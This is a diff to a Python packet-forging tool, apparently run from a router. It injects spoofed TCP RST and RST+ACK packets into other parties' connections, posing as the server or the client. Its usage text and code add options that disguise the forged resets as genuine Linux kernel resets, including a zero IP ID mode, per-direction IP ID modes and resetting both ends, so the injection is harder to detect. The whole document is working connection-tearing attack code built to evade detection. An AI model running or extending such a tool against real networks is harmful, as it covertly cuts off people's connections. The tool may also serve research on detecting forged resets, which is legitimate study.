@@ -8,7 +8,8 @@ exactly the one built here; Linux only fills in an IP ID of 0, so 0 is never use
 Modes (--port = the server's port):
   aqo       on the client's third handshake ACK (pure ACK after the SYN/ACK): a bare RST
             to the client with the server's address, seq = that ACK's ack, window 0, no
-            options: shaped like the server kernel's accept-queue-overflow reset
+            options: shaped like the server kernel's accept-queue-overflow reset; with
+            --both also RST+ACK to the server (client's address) so the server stays silent
   request   on the client's first payload segment: RST+ACK to the client (server's address,
             seq = the server's next, ack = the client's next) and, with --both, to the
             server (client's address, seq = the client's next after the request)
@@ -28,7 +29,9 @@ Disguises:
   --ttl N        the forged TTL (default 64: the router's own packets have 64 everywhere,
                  genuine endpoint packets have 63 once past the router; 63 mimics them)
   --ipid M       random | one (scapy's default, 1) | next (the spoofed endpoint's last
-                 IP ID + 1) | peer (the IP ID of the receiver's segment it answers)
+                 IP ID + 1) | peer (the IP ID of the receiver's segment it answers) | zero
+                 (what Linux puts on RSTs sent without a socket; needs DF)
+  --ipid-server M  the same for the RSTs sent to the server (default: --ipid)
   --df / --no-df the DF bit (Linux endpoints set it)
   --copy-opts    RST+ACK with the spoofed endpoint's window and a timestamp option
                  (its last TSval + elapsed ms, TSecr = the receiver's last TSval)
@@ -112,15 +115,19 @@ class Forger:
 
     def send(self, conn, spoof, recv, flags, seq, ack=0, answer_id=None, extra_ip=None):
         a = self.a
-        if a.ipid == "next":
+        mode = a.ipid_server if (a.ipid_server and recv is not None and recv is conn.s) else a.ipid
+        if mode == "zero":
+            ipid = 0      # kept as 0 by the kernel only with DF set (ip_select_ident_segs)
+        elif mode == "next":
             ipid = (spoof.ipid + 1) % 65536 if spoof.ipid is not None else random.randint(1, 65535)
-        elif a.ipid == "peer":
+        elif mode == "peer":
             ipid = answer_id if answer_id is not None else recv.ipid
-        elif a.ipid == "one":
+        elif mode == "one":
             ipid = 1
         else:
             ipid = random.randint(1, 65535)
-        ipid = ipid or 1
+        if mode != "zero":
+            ipid = ipid or 1
         ipkw = dict(src=spoof.addr, dst=recv.addr, ttl=a.ttl, id=ipid, flags="DF" if a.df else 0)
         if extra_ip:
             ipkw.update(extra_ip)
@@ -147,7 +154,9 @@ def main():
     ap.add_argument("--timeout", type=float, default=15)
     ap.add_argument("--idle", type=float, default=6)
     ap.add_argument("--ttl", type=int, default=64)
-    ap.add_argument("--ipid", choices=["random", "one", "next", "peer"], default="random")
+    ap.add_argument("--ipid", choices=["random", "one", "next", "peer", "zero"], default="random")
+    ap.add_argument("--ipid-server", choices=["random", "one", "next", "peer", "zero"], default="",
+                    help="IP ID mode of the RSTs sent to the server (default: --ipid)")
     ap.add_argument("--df", dest="df", action="store_true", default=True)
     ap.add_argument("--no-df", dest="df", action="store_false")
     ap.add_argument("--copy-opts", action="store_true")
@@ -198,6 +207,8 @@ def main():
                     and cn.s.nxt is not None and not getattr(cn, "hit", False):
                 cn.hit = True
                 f.send(cn, cn.s, cn.c, "R", t.ack, 0, answer_id=ip.id)
+                if a.both:
+                    f.send(cn, cn.c, cn.s, "RA", cn.c.nxt, cn.s.nxt)
                 hits[0] += 1
                 if hits[0] >= a.count:
                     done.set()
